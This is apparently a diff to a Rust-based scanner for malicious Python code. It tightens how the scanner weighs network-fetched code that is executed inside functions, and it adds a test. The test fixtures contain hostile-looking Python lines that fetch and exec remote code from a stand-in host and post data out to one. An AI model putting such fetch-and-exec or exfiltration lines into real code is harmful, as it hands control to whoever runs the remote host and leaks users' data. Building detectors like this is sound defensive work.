@@ -3090,6 +3090,8 @@ impl<'t> Py<'t> {
             return;
         }
         if origin & DOWNLOADED != 0 {
+            // Code chosen later by whoever controls the URL has no benign reading: a
+            // function body weighs like the top level (like decoded code).
             push(
                 sink,
                 ctx,
@@ -3097,7 +3099,7 @@ impl<'t> Py<'t> {
                 line,
                 snip,
                 format!("`{name}` runs code fetched from the network"),
-                Some(scope),
+                Some(scope.undiscounted(ctx.top)),
             );
         } else if origin & STEGO != 0 {
             push(
@@ -4126,6 +4128,18 @@ requests.post('http://x.test/a', json={'k': c})
                    def f():\n    def replace(m):\n        return m\n    return replace\n\
                    r = memset('http://x.test/p')\nfree(replace(r.text))\n";
         assert!(fires(src, "PY-EXEC-DOWNLOADED"));
+    }
+
+    #[test]
+    fn code_fetched_and_run_from_a_function_is_not_discounted() {
+        let src = "import requests\nclass Sync:\n    def run(self):\n        exec(requests.get('https://x.test/p').text)\n";
+        let s = run(src);
+        let f = s.findings.iter().find(|f| f.rule == "PY-EXEC-DOWNLOADED");
+        // Reported at run time, weighing like the file's top level (setup.py here).
+        assert_eq!(
+            f.map(|f| (f.stage, f.factor)),
+            Some((Some(Stage::Runtime), 1.0))
+        );
     }
 
     #[test]
